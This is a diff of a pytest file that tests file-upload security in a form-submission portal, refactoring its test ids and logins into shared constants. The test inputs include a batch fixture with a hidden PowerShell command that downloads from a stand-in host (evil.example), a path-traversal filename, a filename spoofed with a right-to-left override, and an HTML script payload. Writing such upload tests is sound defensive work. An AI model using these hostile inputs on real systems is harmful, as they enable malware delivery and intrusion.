@@ -7,11 +7,12 @@ from pathlib import Path
 import pytest
 from sqlalchemy import select
 
-from conftest import csrf_token
 from formtools import (HEALTH, PDF, POLICE, attach, attachment_ids, complete_answers,
                        post_answers, remove_attachment, request_id)
 from models import FormAttachment, FormRequest, FormStatus, db
 from models.mixins import utcnow
+import world
+from world import GATHERING, MANAGER, PANEL_A
 
 
 def stored_files(app):
@@ -20,8 +21,8 @@ def stored_files(app):
 
 
 def test_upload_is_stored_by_key_and_served_as_a_download(app, client, auth):
-    rid = request_id(app, "DHR-2026-001", POLICE, "imr")
-    auth.login("police@example.org")
+    rid = request_id(app, GATHERING, POLICE, "imr")
+    auth.login(world.POLICE)
     response = attach(client, rid, PDF, "../../etc/Chronology 2025.pdf")
     assert response.status_code == 302
     with app.app_context():
@@ -52,8 +53,8 @@ NOT_ALLOWED = ("Only PDF, Word, Excel, OpenDocument text, PNG, JPEG or plain tex
     (b"", "empty.txt", "The file is empty."),
 ])
 def test_files_are_judged_by_content_not_name(app, client, auth, content, name, message):
-    rid = request_id(app, "DHR-2026-001", POLICE, "imr")
-    auth.login("police@example.org")
+    rid = request_id(app, GATHERING, POLICE, "imr")
+    auth.login(world.POLICE)
     before = stored_files(app)
     response = attach(client, rid, content, name)
     assert response.status_code == 400 and "was not attached" in response.text
@@ -77,8 +78,8 @@ BAT = b"@echo off\r\npowershell -nop -w hidden -c \"iwr http://evil.example/x\"\
 ])
 def test_executable_and_script_names_are_refused_whatever_the_content(
         app, client, auth, content, name, extension):
-    rid = request_id(app, "DHR-2026-001", POLICE, "imr")
-    auth.login("police@example.org")
+    rid = request_id(app, GATHERING, POLICE, "imr")
+    auth.login(world.POLICE)
     before = stored_files(app)
     response = attach(client, rid, content, name)
     assert response.status_code == 400
@@ -90,8 +91,8 @@ def test_a_bidirectional_override_is_removed_and_the_name_ends_as_the_content_is
         app, client, auth):
     """"scan\u202egnp.txt" shows as "scantxt.png"; stored and downloaded without the override,
     under a name ending in the type found in the content (plain text)."""
-    rid = request_id(app, "DHR-2026-001", POLICE, "imr")
-    auth.login("police@example.org")
+    rid = request_id(app, GATHERING, POLICE, "imr")
+    auth.login(world.POLICE)
     attach(client, rid, b"just notes\n", "scan\u202egnp.txt")
     attach(client, rid, b"more notes\n", "minutes")
     first, second = attachment_ids(app, rid)
@@ -106,8 +107,8 @@ def test_a_bidirectional_override_is_removed_and_the_name_ends_as_the_content_is
 
 
 def test_html_is_only_ever_served_as_plain_text_download(app, client, auth):
-    rid = request_id(app, "DHR-2026-001", POLICE, "imr")
-    auth.login("police@example.org")
+    rid = request_id(app, GATHERING, POLICE, "imr")
+    auth.login(world.POLICE)
     attach(client, rid, b"<html><script>alert(1)</script></html>", "page.html")
     [file_id] = attachment_ids(app, rid)
     download = client.get(f"/portal/attachments/{file_id}")
@@ -118,8 +119,8 @@ def test_html_is_only_ever_served_as_plain_text_download(app, client, auth):
 
 @pytest.mark.parametrize("app_config", [{"FORM_ATTACHMENT_MAX_BYTES": 1024}])
 def test_size_limit(app, client, auth, app_config):
-    rid = request_id(app, "DHR-2026-001", POLICE, "imr")
-    auth.login("police@example.org")
+    rid = request_id(app, GATHERING, POLICE, "imr")
+    auth.login(world.POLICE)
     before = stored_files(app)
     response = attach(client, rid, b"%PDF-1.4\n" + b"x" * 2000, "big.pdf")
     assert attachment_ids(app, rid) == [] and stored_files(app) == before
@@ -127,8 +128,8 @@ def test_size_limit(app, client, auth, app_config):
 
 
 def test_remove_before_submission_and_reviewers_read_after(app, client, auth):
-    rid = request_id(app, "DHR-2026-001", POLICE, "imr")
-    auth.login("police@example.org")
+    rid = request_id(app, GATHERING, POLICE, "imr")
+    auth.login(world.POLICE)
     attach(client, rid, PDF, "first.pdf")
     attach(client, rid, b"plain notes\n", "second.txt")
     first, second = attachment_ids(app, rid)
@@ -138,22 +139,22 @@ def test_remove_before_submission_and_reviewers_read_after(app, client, auth):
     post_answers(client, rid, complete_answers(page.text), "submit")
     auth.logout()
 
-    auth.login("manager@example.org")
+    auth.login(MANAGER)
     assert client.get(f"/admin/formrequest/attachment/{second}/").data == b"plain notes\n"
     auth.logout()
-    auth.login("panel.a@example.org")  # the form is submitted, not accepted
+    auth.login(PANEL_A)  # the form is submitted, not accepted
     assert client.get(f"/admin/formrequest/attachment/{second}/").status_code == 404
     auth.logout()
-    auth.login("health@example.org")
+    auth.login(world.HEALTH)
     assert client.get(f"/portal/attachments/{second}").status_code == 404
-    assert request_id(app, "DHR-2026-001", HEALTH, "imr")  # health has its own, not this one
+    assert request_id(app, GATHERING, HEALTH, "imr")  # health has its own, not this one
 
 
 def test_files_of_a_submitted_version_stay_when_the_form_is_returned(app, client, auth):
     """Returning a form keeps the submitted version, its files included: the agency may add
     corrected files, not remove what it submitted."""
-    rid = request_id(app, "DHR-2026-001", POLICE, "imr")
-    auth.login("police@example.org")
+    rid = request_id(app, GATHERING, POLICE, "imr")
+    auth.login(world.POLICE)
     assert attach(client, rid).status_code == 302
     [submitted_file] = attachment_ids(app, rid)
     with app.app_context():
